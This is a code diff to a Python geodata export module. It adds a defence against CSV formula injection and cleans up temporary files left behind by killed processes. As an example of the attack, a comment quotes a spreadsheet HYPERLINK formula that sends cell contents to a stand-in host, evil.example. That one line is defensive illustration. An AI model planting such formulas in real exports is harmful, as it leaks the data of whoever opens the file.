@@ -348,13 +348,30 @@ def to_csv(gdf: gpd.GeoDataFrame, layer: str = "") -> bytes:
         df["lat"] = shapely.get_y(geoms).round(DECIMALS)
     if "value_cny" in df:
         df["value_cny"] = df["value_cny"].astype("Int64")
+    for col in df.columns:
+        if df[col].dtype == object or pd.api.types.is_string_dtype(df[col].dtype):
+            df[col] = pd.Series([defuse_cell(v) for v in df[col].tolist()], index=df.index, dtype=object)
     return df.to_csv(index=False, lineterminator="\r\n").encode("utf-8-sig")
+
+
+# CSV formula injection (OWASP): a spreadsheet runs a cell that starts with one of these as a
+# formula, e.g. =HYPERLINK("http://evil.example/?"&A1, "Click"). Such a text cell gets a
+# leading apostrophe, which spreadsheets show as text; a negative number stays a number.
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+_NUMBER = re.compile(r"-(?:[0-9]+(?:\.[0-9]*)?|\.[0-9]+)(?:[eE][+-]?[0-9]+)?")
+
+
+def defuse_cell(value):
+    if isinstance(value, str) and value.startswith(FORMULA_START) and not _NUMBER.fullmatch(value):
+        return "'" + value
+    return value
 
 
 def _via_file(gdf: gpd.GeoDataFrame, layer: str, suffix: str, **kwargs) -> bytes:
     import pyogrio
 
-    with tempfile.TemporaryDirectory(prefix="geomap-") as tmp:
+    _sweep_temp_dirs()
+    with tempfile.TemporaryDirectory(prefix=f"{TEMP_PREFIX}{os.getpid()}-") as tmp:
         path = Path(tmp) / f"{layer or 'layer'}{suffix}"
         pyogrio.write_dataframe(gdf, path, layer=layer or "layer", **kwargs)
         return path.read_bytes()
@@ -446,14 +463,17 @@ def write_atomic(data: bytes, output: Path) -> None:
 
     The bytes go to a temporary file beside `output`, which replaces `output` only once they
     are all on disk; on any failure the temporary file is removed and an earlier `output` is
-    left as it was. The new file gets the usual permissions (those of the file it replaces, or
+    left as it was. A process killed outright (SIGKILL, a power cut) cannot remove it: its name
+    carries the writer's process id, and the next write to the same file removes those whose
+    writer is gone. The new file gets the usual permissions (those of the file it replaces, or
     0666 less the umask) rather than mkstemp's private 0600. Errors name `output`, not the
     temporary file.
     """
     output = Path(output)
+    folder = output.parent if str(output.parent) else Path(".")
+    _sweep_parts(folder, output.name)
     try:
-        fd, tmp = tempfile.mkstemp(dir=output.parent if str(output.parent) else ".",
-                                   prefix=f".{output.name}.", suffix=".part")
+        fd, tmp = tempfile.mkstemp(dir=folder, prefix=f".{output.name}.{os.getpid()}.", suffix=".part")
     except OSError as exc:
         raise OSError(exc.errno, exc.strerror, str(output)) from exc
     try:
@@ -471,6 +491,67 @@ def write_atomic(data: bytes, output: Path) -> None:
         if isinstance(exc, OSError) and exc.errno is not None and exc.filename in (None, tmp):
             raise OSError(exc.errno, exc.strerror, str(output)) from exc
         raise
+
+
+# -- what a killed process leaves behind ---------------------------------------------------------
+
+TEMP_PREFIX = "geomap-"
+_swept = threading.Lock()
+_swept_dirs = False
+
+
+def _gone(pid: int) -> bool:
+    """True if no process has this id (so its temporary files are nobody's)."""
+    if pid == os.getpid() or pid <= 0:
+        return False
+    try:
+        os.kill(pid, 0)
+    except ProcessLookupError:
+        return True
+    except (PermissionError, OSError):
+        return False
+    return False
+
+
+def _sweep_parts(folder: Path, name: str) -> None:
+    """Remove `.name.<pid>.*.part` files beside an export whose writer is gone."""
+    pattern = re.compile(rf"\.{re.escape(name)}\.([0-9]+)\.[^/]*\.part")
+    try:
+        entries = list(os.scandir(folder))
+    except OSError:
+        return
+    for entry in entries:
+        m = pattern.fullmatch(entry.name)
+        if m and _gone(int(m.group(1))):
+            try:
+                if entry.stat(follow_symlinks=False).st_uid == os.getuid():
+                    os.unlink(entry.path)
+            except OSError:
+                pass
+
+
+def _sweep_temp_dirs() -> None:
+    """Once per process: remove the GDAL work folders (<tmp>/geomap-<pid>-*) of dead processes."""
+    global _swept_dirs
+    with _swept:
+        if _swept_dirs:
+            return
+        _swept_dirs = True
+    import shutil
+
+    pattern = re.compile(rf"{re.escape(TEMP_PREFIX)}([0-9]+)-[^/]+")
+    try:
+        entries = list(os.scandir(tempfile.gettempdir()))
+    except OSError:
+        return
+    for entry in entries:
+        m = pattern.fullmatch(entry.name)
+        try:
+            if (m and entry.is_dir(follow_symlinks=False) and _gone(int(m.group(1)))
+                    and entry.stat(follow_symlinks=False).st_uid == os.getuid()):
+                shutil.rmtree(entry.path, ignore_errors=True)
+        except OSError:
+            pass
 
 
 def _new_file_mode(output: Path) -> int:
